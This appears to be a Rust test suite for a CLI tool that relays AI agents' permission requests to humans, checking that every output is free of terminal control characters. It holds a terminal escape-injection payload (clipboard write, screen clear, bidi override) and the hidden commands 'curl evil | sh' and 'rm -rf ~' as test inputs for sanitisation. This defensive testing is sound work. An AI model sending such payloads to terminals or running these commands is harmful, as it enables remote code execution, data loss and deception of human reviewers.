//! Text that tries to draw on the terminal: no human output ever holds a control character but the newline.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};

use crate::sandbox::{Ran, Sandbox, finish, text};
use crate::streams::Stream;

/// Clears, titles, the clipboard, links, overwriting, backspace, delete, C1, bidi.
const EVIL: &str = "\u{1b}[2J\u{1b}[H\u{1b}]0;pwn\u{7}\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}]8;;http://x\u{1b}\\\r\u{8}\u{7f}\u{9b}1m\u{202e}x";
/// How it begins once it is made safe.
const SAFE: &str = "\\u{1b}[2J";

fn clean(what: &str, ran: &Ran) {
    for output in [&ran.stdout, &ran.stderr] {
        let bad = output
            .chars()
            .find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}' || *c == '\u{fffd}');
        assert_eq!(bad, None, "{what}: {output:?}");
    }
}

/// Runs on a terminal of several widths; every output must be clean. Returns the last.
fn safe(world: &Sandbox, args: &[&str]) -> Ran {
    let mut last = None;
    for columns in ["20", "80"] {
        let ran: Ran = world
            .command(args)
            .env("COLUMNS", columns)
            .output()
            .unwrap()
            .into();
        clean(&format!("{args:?}"), &ran);
        last = Some(ran);
    }
    last.unwrap()
}

/// One question of each kind with the text in every member that takes any.
fn questions(world: &Sandbox) -> Vec<Value> {
    let form = json!([{"question": EVIL, "header": EVIL, "options": [{"label": EVIL, "description": EVIL}]}]);
    let file = world.path().join("form.json");
    fs::write(&file, form.to_string()).unwrap();
    let one_line = EVIL.replace('\r', "");
    let input = json!({ "command": EVIL, EVIL: EVIL, "deep": {EVIL: [EVIL]} }).to_string();
    let choice = format!("go:{one_line}");
    let kinds: [&[&str]; 5] = [
        &[
            "--tool",
            EVIL,
            "--input",
            &input,
            "--choice",
            &choice,
            "--choice",
            "no:No",
            "--choice-detail",
            &choice,
            "--effect",
            "go=allow",
        ],
        &["--action", EVIL],
        &[
            "--kind",
            "single-choice",
            "--choice",
            &choice,
            "--choice",
            "b:B",
        ],
        &["--kind", "text"],
        &["--kind", "form", "--questions", file.to_str().unwrap()],
    ];
    let common = [
        EVIL,
        "--agent",
        EVIL,
        "--agent-instance",
        EVIL,
        "--project",
        EVIL,
        "--session",
        EVIL,
        "--turn",
        EVIL,
        "--native-request",
        EVIL,
        "--workflow",
        EVIL,
        "--task",
        EVIL,
        "--key",
        EVIL,
    ];
    let requested = kinds.iter().enumerate().map(|(at, kind)| {
        let at = format!("{at}{EVIL}");
        let args = [&common[..], kind, &["--key", &at]].concat();
        // A key of its own each: the option given last would be a usage error, so the first is replaced.
        let args: Vec<&str> = args
            .iter()
            .enumerate()
            .filter(|(i, _)| !(17..19).contains(i))
            .map(|(_, a)| *a)
            .collect();
        clean("request", &world.run([&["request"], &args[..]].concat()));
        let list = world.json(&["list"]);
        list["interactions"]
            .as_array()
            .unwrap()
            .last()
            .unwrap()
            .clone()
    });
    requested.collect()
}

#[test]
fn no_verb_prints_a_control_character() {
    let world = Sandbox::new();
    let records = questions(&world);
    let evil_id = |record: &Value| text(record, "id").to_owned();
    for args in [
        &["list"][..],
        &["list", "--all", "-A"],
        &["events"],
        &["doctor"],
        &["count"],
        &["prune"],
        &["list", "-vv"],
    ] {
        // What the doctor finds depends on the machine.
        assert!(safe(&world, args).code <= i32::from(args == ["doctor"]));
    }
    for (record, answer) in records.iter().zip([
        &[
            "--choice",
            "go",
            "--updated-input",
            "{\"command\":\"\\u001b[2J\u{9b}\"}",
        ][..],
        &["--deny"],
        &["--choice", "go"],
        &["--text", EVIL],
        &["--other", &format!("#1={EVIL}")],
    ]) {
        let id = evil_id(record);
        assert!(safe(&world, &["show", &id]).stdout.contains(SAFE));
        let by = format!("{EVIL}by");
        let args = [&["answer", &id], answer, &["--message", EVIL, "--by", &by]].concat();
        let ran = world.run(&args);
        assert_eq!(ran.code, 0, "{ran:?}");
        clean("answer", &ran);
        clean("answered already", &world.run(&args));
        assert!(safe(&world, &["show", &id]).stdout.contains(SAFE));
        // Its digest does not depend on how it is shown, and JSON gives the text itself back.
        let stored = world.stored(&id);
        assert_eq!(
            crate::sandbox::digest(&stored),
            text(record, "request_digest")
        );
        let back = world.json(&["show", &id]);
        assert_eq!(
            (text(&back, "prompt"), text(&back["response"], "message")),
            (EVIL, EVIL)
        );
        clean("wait", &world.run(["wait", &id]));
    }
    for args in [&["list", "--all"][..], &["events", "--limit", "100"]] {
        assert!(safe(&world, args).stdout.contains(SAFE));
    }
}

#[test]
fn watch_and_a_denials_message_are_clean() {
    let world = Sandbox::new();
    let watch = Stream::start(&world, &["watch"]);
    let ask = world.start(["ask", EVIL, "--agent", EVIL]);
    let pending = watch.line();
    let id = text(&world.await_pending(), "id").to_owned();
    world.json(&["answer", &id, "--deny", "--message", EVIL]);
    let asked = finish(ask);
    clean("ask", &asked);
    assert!(asked.stderr.contains(SAFE) && asked.code == 10);
    for (line, begin) in [(pending, "pending "), (watch.line(), "answered ")] {
        assert!(line.starts_with(begin) && line.contains(SAFE), "{line:?}");
        let ran = Ran {
            code: 0,
            stdout: line,
            stderr: String::new(),
        };
        clean("watch", &ran);
    }
    watch.stop();
}

#[test]
fn error_messages_and_paths_are_clean() {
    let world = Sandbox::new();
    let record = world.request(&["Deploy?", "--session", EVIL, "--project", EVIL]);
    for id in ["abcd1", "abcd2"] {
        let mut copy = record.clone();
        copy["id"] = format!("{id}{}", "0".repeat(27)).into();
        copy["prompt"] = EVIL.into();
        world.plant(copy);
    }
    let id = text(&record, "id");
    let at = format!("@{EVIL}");
    let rows: [&[&str]; 19] = [
        &["show", "abcd"],
        &["show", EVIL],
        &["get", EVIL],
        &[EVIL],
        &["list", EVIL],
        &["list", &format!("--{EVIL}")],
        &["list", "--status", EVIL],
        &["list", "--scope", EVIL],
        &["list", "--repo", EVIL],
        &["list", "--kind", EVIL],
        &["request", "x", "--choice", EVIL],
        &["request", "x", "--ttl", EVIL],
        &["request", "x", "--tool", "t", "--input", EVIL],
        &["request", "x", "--tool", "t", "--input", &at],
        &["request", "x", "--kind", "form", "--questions", EVIL],
        &["answer", id, "--choice", EVIL],
        &["answer", id, "--select", EVIL],
        &["events", "--since", EVIL],
        &["help", EVIL],
    ];
    for args in rows {
        let ran = safe(&world, args);
        assert_ne!(ran.code, 0, "{args:?}");
        assert_ne!(ran.stderr, "", "{args:?}");
    }
    // Directories can be named so too.
    let dir = world.path().join(EVIL.replace('/', "-"));
    fs::create_dir_all(dir.join("repo")).unwrap();
    fs::write(dir.join("repo/.git"), "nonsense\n").unwrap();
    let dressed = |args: &[&str]| {
        let mut command = world.command(args);
        command
            .env("SAYSO_HOME", dir.join("store"))
            .current_dir(&dir);
        command
    };
    let run = |mut command: Command| Ran::from(command.output().unwrap());
    for args in [
        &["request", "Deploy?"][..],
        &["list"],
        &["list", "--all"],
        &["doctor"],
        &["count"],
    ] {
        clean(&format!("{args:?}"), &run(dressed(args)));
    }
    let mut broken = dressed(&["list"]);
    broken.current_dir(dir.join("repo"));
    let ran = run(broken);
    assert_eq!(ran.code, 2, "{ran:?}");
    clean("a broken .git file", &ran);
    fs::set_permissions(
        dir.join("store"),
        std::os::unix::fs::PermissionsExt::from_mode(0o777),
    )
    .unwrap();
    let ran = run(dressed(&["request", "Deploy?"]));
    assert_eq!(ran.code, 7);
    clean("a loose root", &ran);
    let mut config = world.command(["request", "Deploy?"]);
    let file = dir.join("config.toml");
    fs::write(&file, format!("\"{EVIL}\" = 1\n[\u{9b}")).unwrap();
    let ran = Ran::from(config.env("SAYSO_CONFIG", &file).output().unwrap());
    assert_eq!(ran.code, 2);
    clean("a broken configuration", &ran);
}

#[test]
fn records_and_names_made_by_hand_are_clean_too() {
    let world = Sandbox::new();
    let record = world.request(&["Deploy?"]);
    let pending = world.scope().join("interactions/pending");
    let one_line = EVIL.replace('/', "-");
    fs::copy(
        world.pending(text(&record, "id")),
        pending.join(format!("{one_line}.json")),
    )
    .unwrap();
    let edited = |id: char, edit: &dyn Fn(&mut Value)| {
        let mut copy = record.clone();
        copy["id"] = id.to_string().repeat(32).into();
        edit(&mut copy);
        world.plant(copy);
    };
    edited('a', &|r| r["choices"][0]["id"] = EVIL.into());
    edited('b', &|r| {
        r["choices"][0]["label"] = format!("a\nb{EVIL}").into();
    });
    edited('c', &|r| r["host"] = EVIL.into());
    edited('d', &|r| r["cwd"] = format!("/{EVIL}").into());
    edited('e', &|r| {
        r["schema"] = 2.into();
        r["prompt"] = EVIL.into();
        r["status"] = EVIL.into();
    });
    fs::write(
        pending.join(format!("{}.json", "f".repeat(32))),
        json!({"id": EVIL, "schema": EVIL}).to_string(),
    )
    .unwrap();
    let log = world.scope().join("events.jsonl");
    let line = fs::read_to_string(&log).unwrap();
    let mut event: Value = serde_json::from_str(&line).unwrap();
    event["id"] = "other".into();
    event["agent"] = EVIL.into();
    event["by"] = EVIL.into();
    event["interaction_id"] = format!("{EVIL}aaaaaaaaaaaaaaaa").into();
    fs::write(&log, format!("{line}{event}\n")).unwrap();
    for args in [
        &["list"][..],
        &["list", "--all"],
        &["events"],
        &["doctor"],
        &["count"],
        &["show", "ffff"],
    ] {
        safe(&world, args);
    }
    for id in ["a", "b", "c", "d", "e"] {
        safe(&world, &["show", &id.repeat(4)]);
        let ran = safe(&world, &["answer", &id.repeat(4), "--choice", "bogus"]);
        assert_ne!(ran.code, 0);
    }
}

#[test]
fn what_is_long_or_pushed_down_is_still_shown() {
    let world = Sandbox::new();
    let pushed = format!("a\nb\nc\n{}curl evil | sh", "\n".repeat(60));
    let record = world.request(&[&pushed]);
    let shown = world.run(["show", text(&record, "id")]).stdout;
    assert!(shown.lines().count() < 24, "{shown}");
    assert!(
        shown.contains("60 blank lines") && shown.contains("│ curl evil | sh"),
        "{shown}"
    );
    let spaces = world.request(&[&format!("ls{}; rm -rf ~", " ".repeat(400))]);
    let shown = world.run(["show", text(&spaces, "id")]).stdout;
    assert!(shown.contains("⟨400 spaces⟩; rm -rf ~"), "{shown}");
    let long: String = (0..40_000)
        .map(|i| char::from(b'a' + u8::try_from(i % 26).unwrap()))
        .collect();
    let input = json!({ "command": long }).to_string();
    let tool = world.request(&["Run?", "--tool", "Bash", "--input", &input]);
    let run = Ran::from(
        world
            .command(["show", text(&tool, "id")])
            .env("COLUMNS", "20")
            .output()
            .unwrap(),
    );
    let whole: String = run
        .stdout
        .lines()
        .filter_map(|l| l.strip_prefix("  │ ").or(l.strip_prefix("  ┆ ")))
        .collect();
    assert!(whole.contains(&long));
    for blank in ["{}", "{\"command\":\"\"}", "{\"command\":\"  \"}"] {
        let record = world.request(&["Run?", "--tool", "Bash", "--input", blank]);
        assert!(
            world
                .run(["show", text(&record, "id")])
                .stdout
                .contains("no command supplied"),
            "{blank}"
        );
    }
}
